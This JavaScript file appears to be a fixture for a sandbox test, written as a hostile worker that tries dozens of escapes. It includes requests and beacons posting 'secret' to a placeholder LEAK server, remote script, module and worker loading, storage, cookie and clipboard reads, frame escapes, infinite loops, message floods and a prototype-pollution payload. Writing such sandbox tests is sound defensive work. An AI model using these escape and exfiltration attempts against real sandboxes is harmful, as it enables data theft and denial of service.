// Attempts of a hostile program to break out of the worker of a sandbox (e2e/test_sandbox.py). Each is
// requested by name and reports its result. Unlike a bot, it can run JavaScript. LEAK is the address of a
// server that records requests.
const LEAK = "@LEAK@";
const url = (name) => `${LEAK}/${name}`;
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const lacks = (name) => {
	if (!(name in globalThis)) throw new Error(`no ${name}`);
};

const ours = (names) => {
	if (!names.some((name) => name.startsWith("navals"))) throw new Error("nothing of ours");
	return names;
};

/** Resolve if something opened; reject if it failed. */
const opened = (thing, ...names) =>
	new Promise((resolve, reject) => {
		for (const name of names) thing.addEventListener(name, () => resolve(name));
		thing.addEventListener("error", () => reject(new Error("error")));
		setTimeout(() => reject(new Error("nothing happened")), 700);
	});

const nested = (worker) =>
	new Promise((resolve, reject) => {
		worker.onmessage = ({ data }) => (data.startsWith("escaped") ? resolve(data) : reject(new Error(data)));
		worker.onerror = (event) => {
			event.preventDefault?.();
			reject(new Error("error"));
		};
		setTimeout(() => reject(new Error("nothing happened")), 1500);
	});

const ATTEMPTS = {
	fetch: () => fetch(url("fetch")),
	"fetch without asking": () => fetch(url("no-cors"), { mode: "no-cors", method: "POST", body: "secret" }),
	"fetch that outlives": () => fetch(url("keepalive"), { mode: "no-cors", keepalive: true }),
	"fetch from the site": () => fetch("@SITE@/index.html", { mode: "no-cors" }),
	request: () =>
		new Promise((resolve, reject) => {
			const request = new XMLHttpRequest();
			request.open("GET", url("xhr"));
			request.onload = resolve;
			request.onerror = () => reject(new Error("error"));
			request.send();
		}),
	"request that waits": () => {
		const request = new XMLHttpRequest();
		request.open("GET", url("sync"), false);
		request.send();
		if (!request.status) throw new Error("nothing came");
	},
	"web socket": () => opened(new WebSocket(url("socket").replace("http", "ws")), "open"),
	"event source": () => opened(new EventSource(url("events")), "open", "message"),
	"web transport": () => new WebTransport(url("transport").replace("http:", "https:")).ready,
	"imported script": () => importScripts(url("script.js")),
	"imported script of its own": () => importScripts(blob("globalThis.ran = 1")),
	"imported module": () => import(url("module.js")),
	"imported module of its own": () => import(blob("export default 1")),
	"imported data": () => import("data:text/javascript,export default 1"),
	eval: () => {
		// biome-ignore lint/security/noGlobalEval: an attempt
		const indirect = eval;
		return indirect("1 + 1");
	},
	"function from text": () => new Function("return 1")(),
	"timer with text": async () => {
		setTimeout("globalThis.timed = 1", 0);
		await later(50);
		if (!globalThis.timed) throw new Error("it did not run");
	},
	database: () =>
		new Promise((resolve, reject) => {
			const request = indexedDB.open("navals");
			request.onsuccess = resolve;
			request.onerror = () => reject(new Error("error"));
		}),
	// WebKit has storage for opaque origins too, but it is empty: it contains none of the site's data.
	"list of databases": async () => ours((await indexedDB.databases()).map(({ name }) => name)),
	caches: async () => ours(await caches.keys()),
	"files of the origin": () => navigator.storage.getDirectory(),
	"lasting storage": async () => {
		if (!(await navigator.storage.persist())) throw new Error("no");
	},
	"local storage": () => localStorage.length,
	"session storage": () => sessionStorage.length,
	cookies: () => document.cookie,
	"cookie store": () => cookieStore.getAll(),
	locks: () => navigator.locks.query(),
	"shared worker": () => opened(new SharedWorker(url("shared.js")).port, "message"),
	"service worker": () => navigator.serviceWorker.register(url("sw.js")),
	"worker from elsewhere": () => nested(new Worker(url("worker.js"))),
	"worker from the site": () => nested(new Worker("@SITE@/sw.js")),
	"worker of its own that fetches": () =>
		nested(
			new Worker(
				blob(
					`fetch("${url("nested")}", { mode: "no-cors" }).then(() => postMessage("escaped"), (e) => postMessage(String(e)))`,
				),
			),
		),
	beacon: () => {
		if (!navigator.sendBeacon(url("beacon"), "secret")) throw new Error("no");
	},
	window: () => {
		if (!open(url("window"))) throw new Error("no window");
	},
	parent: () => parent.document.title,
	top: () => top.location.replace(url("top")),
	opener: () => opener.location,
	history: () => history.back(),
	notification: () => {
		lacks("Notification");
		new Notification("hello");
		if (Notification.permission !== "granted") throw new Error("denied");
	},
	clipboard: () => navigator.clipboard.readText(),
	place: () =>
		new Promise((resolve, reject) =>
			navigator.geolocation.getCurrentPosition(resolve, () => reject(new Error("denied"))),
		),
	"full screen": () => document.documentElement.requestFullscreen(),
	font: () => new FontFace("leak", `url(${url("font")})`).load(),
	peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] }).createOffer(),
	usb: () =>
		navigator.usb.getDevices().then((found) => {
			if (!found.length) throw new Error("none");
		}),
	push: () => registration.pushManager.subscribe(),
};

async function answered(name) {
	if (name === "names") return JSON.stringify(Object.keys(ATTEMPTS));
	if (name === "told to others") {
		// The page reports whether it arrived.
		for (const one of ["navals", "navals-engine"])
			new BroadcastChannel(one).postMessage({ type: "escaped", key: "game/x" });
		await later(200);
		return "said";
	}
	if (name === "two answers") postMessage("one");
	if (name === "an object") return postMessage({ said: "x" });
	if (name === "shared memory") return postMessage(new ArrayBuffer(8));
	if (name === "a long text") return "x".repeat(10_000_000);
	if (name === "a flood") for (let at = 0; at < 200_000; at += 1) postMessage("x");
	if (name === "a loop") for (;;);
	if (name === "a loop in another worker") {
		new Worker(blob("for (;;);"));
		for (;;);
	}
	if (name === "a loop of promises") for (;;) await null;
	if (name === "an error")
		setTimeout(() => {
			throw new Error("overboard");
		});
	if (name === "silence" || name === "an error") return undefined;
	if (name === "a poisoned text")
		return '{"__proto__": {"poisoned": 1}, "constructor": {"prototype": {"poisoned": 1}}, "n": 1, "said": "{}"}';
	try {
		const came = await ATTEMPTS[name]();
		return `ESCAPED: ${came}`;
	} catch (reason) {
		return `kept: ${String(reason).slice(0, 200)}`;
	}
}

addEventListener(
	"message",
	() => {
		addEventListener("message", async ({ data }) => {
			const said = await answered(data);
			if (said !== undefined) postMessage(said);
		});
		postMessage("ready");
	},
	{ once: true },
);
